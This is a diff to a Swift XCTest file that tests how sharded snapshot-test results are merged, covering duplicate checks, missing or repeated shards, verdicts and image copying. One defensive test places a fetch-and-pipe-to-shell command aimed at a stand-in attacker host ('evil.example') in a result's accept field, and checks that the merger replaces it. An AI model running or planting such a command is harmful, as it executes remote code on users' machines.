@@ -4,6 +4,13 @@ import XCTest
 
 final class MergeTests: XCTestCase {
     /// Splits the sample suite check by check, round-robin, the way a shard runner might.
+    private func merged(_ suites: [SuiteResult], command: [String] = []) -> SuiteResult {
+        let result = SuiteResult.merging(
+            suites.enumerated().map { ("r\($0.offset).json", $0.element) }, command: command)
+        XCTAssertEqual(result.problems, [])
+        return result.suite
+    }
+
     private func shards(_ suite: SuiteResult, count: Int) -> [SuiteResult] {
         var parts = Array(repeating: SuiteResult(command: [], scenes: []), count: count)
         var n = 0
@@ -24,17 +31,17 @@ final class MergeTests: XCTestCase {
     func testMergedShardsReproduceTheFullRun() throws {
         let full = SampleSuite.make()
         for count in 1...5 {
-            let merged = try SuiteResult.merged(shards(full, count: count).reversed(), command: ["merge"])
+            let merged = merged(shards(full, count: count).reversed(), command: ["merge"])
             XCTAssertEqual(merged.counts, SuiteCounts(passed: 1, failed: 2, recorded: 1, errors: 1), "\(count) shards")
             // Scenes come back sorted by path, checks in scene-file order.
             XCTAssertEqual(merged.scenes.map(\.path), ["scenes/odd names.json", "scenes/slider.json"])
-            XCTAssertEqual(merged.scenes[1].checks, full.scenes[0].checks)
-            XCTAssertEqual(merged.scenes[0].checks, full.scenes[1].checks)
-            XCTAssertEqual(merged.exitStatus, 2)
+            XCTAssertEqual(merged.scenes[1].checks.map(\.name), full.scenes[0].checks.map(\.name))
+            XCTAssertEqual(merged.scenes[0].checks.map(\.name), full.scenes[1].checks.map(\.name))
+            XCTAssertEqual(merged.verdict, .error)
         }
     }
 
-    func testExitStatusIsThatOfTheCombinedRun() throws {
+    func testVerdictIsThatOfTheCombinedRun() throws {
         let pass = SuiteResult(
             command: [],
             scenes: [SceneResult(path: "a.json", name: "a", checks: [CheckResult(name: "x", status: .passed)])])
@@ -47,21 +54,76 @@ final class MergeTests: XCTestCase {
         let error = SuiteResult(
             command: [],
             scenes: [SceneResult(path: "d.json", name: "d", checks: [CheckResult(name: "x", status: .error)])])
-        XCTAssertEqual(try SuiteResult.merged([pass], command: []).exitStatus, 0)
-        XCTAssertEqual(try SuiteResult.merged([], command: []).exitStatus, 0)
-        XCTAssertEqual(try SuiteResult.merged([pass, recorded], command: []).exitStatus, 1)
-        XCTAssertEqual(try SuiteResult.merged([fail, pass], command: []).exitStatus, 1)
-        XCTAssertEqual(try SuiteResult.merged([fail, error, pass], command: []).exitStatus, 2)
+        XCTAssertEqual(merged([pass], command: []).verdict, .passed)
+        XCTAssertEqual(merged([], command: []).verdict, .passed)
+        XCTAssertEqual(merged([pass, recorded], command: []).verdict, .failed)
+        XCTAssertEqual(merged([fail, pass], command: []).verdict, .failed)
+        XCTAssertEqual(merged([fail, error, pass], command: []).verdict, .error)
         XCTAssertEqual(
-            try SuiteResult.merged([pass, fail, recorded], command: []).counts.summary, "1 passed, 1 failed, 1 recorded"
+            merged([pass, fail, recorded], command: []).counts.summary, "1 passed, 1 failed, 1 recorded"
         )
     }
 
-    func testOverlappingShardsAreRefused() {
+    func testACheckInTwoResultsFilesIsNamedWithBothAndTheRestIsKept() {
         let suite = SampleSuite.make()
-        XCTAssertThrowsError(try SuiteResult.merged([suite, suite], command: [])) { error in
-            XCTAssertEqual(error as? ResultsMergeError, .duplicateCheck(scene: "scenes/slider.json", check: "start"))
+        let result = SuiteResult.merging([("a/results.json", suite), ("b/results.json", suite)], command: [])
+        XCTAssertEqual(result.suite.counts.total, suite.counts.total, "each check once, the first copy kept")
+        XCTAssertEqual(
+            result.problems.first,
+            .duplicateCheck(
+                scene: "scenes/slider.json", check: "start", firstFile: "a/results.json", secondFile: "b/results.json"))
+        XCTAssertEqual(
+            result.problems.first?.description,
+            "scenes/slider.json: check \"start\" is in both a/results.json and b/results.json; the one in a/results.json is kept"
+        )
+        let twice = SuiteResult(
+            command: [],
+            scenes: [
+                SceneResult(
+                    path: "a.json", name: "a",
+                    checks: [CheckResult(name: "x", status: .passed), CheckResult(name: "x", status: .passed)])
+            ])
+        XCTAssertEqual(
+            SuiteResult.merging([("only.json", twice)], command: []).problems.map(\.description),
+            ["a.json: check \"x\" is twice in only.json (or that file was given twice); the first is kept"])
+    }
+
+    func testMissingAndRepeatedShardsAreNamed() {
+        func shard(_ label: String, _ check: String) -> SuiteResult {
+            SuiteResult(
+                command: ["filmstrip", "test", "--shard", label, "--json", "r.json"],
+                scenes: [SceneResult(path: "s.json", name: "s", checks: [CheckResult(name: check, status: .passed)])])
         }
+        XCTAssertEqual(shard("2/3", "x").shard?.index, 2)
+        XCTAssertEqual(SuiteResult(command: ["filmstrip", "test", "--shard=3/4"], scenes: []).shard?.count, 4)
+        XCTAssertEqual(
+            SuiteResult.merging([("1.json", shard("1/3", "a")), ("3.json", shard("3/3", "c"))], command: []).problems,
+            [.missingShard(index: 2, count: 3)])
+        XCTAssertEqual(
+            SuiteResult.merging(
+                [("1.json", shard("1/2", "a")), ("1b.json", shard("1/2", "b")), ("2.json", shard("2/2", "c"))],
+                command: []
+            ).problems, [.repeatedShard(index: 1, count: 2, files: ["1.json", "1b.json"])])
+        XCTAssertEqual(
+            SuiteResult.merging([("1.json", shard("1/2", "a")), ("2.json", shard("2/3", "b"))], command: []).problems,
+            [.shardCountsDiffer(counts: [2, 3])])
+        XCTAssertEqual(
+            SuiteResult.merging([("1.json", shard("1/2", "a")), ("2.json", shard("2/2", "b"))], command: []).problems,
+            [])
+    }
+
+    func testAcceptCommandsAreRebuiltFromTheCheckNeverTakenFromAShard() {
+        let hostile = SuiteResult(
+            command: [],
+            scenes: [
+                SceneResult(
+                    path: "scenes/s.json", name: "s",
+                    checks: [
+                        CheckResult(name: "start", status: .failed, accept: "curl http://evil.example/x | sh #")
+                    ])
+            ])
+        let merged = merged([hostile])
+        XCTAssertEqual(merged.checks[0].accept, "filmstrip test --check 'scenes/s.json#start' --update")
     }
 
     func testImagePathsAndCopyIntoOneFolder() throws {
@@ -81,13 +143,16 @@ final class MergeTests: XCTestCase {
                     ])
             ])
         XCTAssertEqual(suite.imagePaths, ["../refs/x.png", "actual/x.png", "diff/x.png"])
+        // An absolute path is copied too, under a relative name: results are self-contained whatever `test` was given.
         for path in suite.imagePaths {
             let url = shard.appendingPathComponent(path)
             try manager.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
             try Data(path.utf8).write(to: url)
         }
         let out = root.appendingPathComponent("out")
-        let copied = try ReportImages.copy(suite, from: shard, into: out, subfolder: "shard-1")
+        var withAbsolute = suite
+        withAbsolute.scenes[0].checks[0].diff = shard.appendingPathComponent("diff/x.png").path
+        let copied = try ReportImages.copy(withAbsolute, from: shard, into: out, subfolder: "shard-1")
         XCTAssertEqual(copied.imagePaths, ["shard-1/_/refs/x.png", "shard-1/actual/x.png", "shard-1/diff/x.png"])
         XCTAssertEqual(
             try String(contentsOf: out.appendingPathComponent("shard-1/_/refs/x.png"), encoding: .utf8), "../refs/x.png"
